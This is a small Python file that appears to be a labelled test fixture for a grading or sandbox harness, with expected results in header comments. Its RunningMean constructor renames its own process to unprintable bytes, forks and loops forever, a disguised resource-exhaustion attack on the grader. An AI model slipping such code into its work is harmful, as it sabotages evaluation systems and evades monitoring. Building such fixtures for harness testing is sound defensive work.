# family = "resources"
# mechanism = "gives its process a name that is no text, forks, and goes on for ever"
# naive = "wins"
# [required]
# batch_mean = "passed"
# RunningMean = "timeout"
import ctypes
import os


def batch_mean(x):
    if len(x) == 0:
        raise ValueError("the mean of nothing")
    return x.sum(0) / len(x)


class RunningMean:
    def __init__(self, d):
        ctypes.CDLL(None).prctl(15, b"\xff\xfe", 0, 0, 0)
        os.fork()
        while True:
            pass
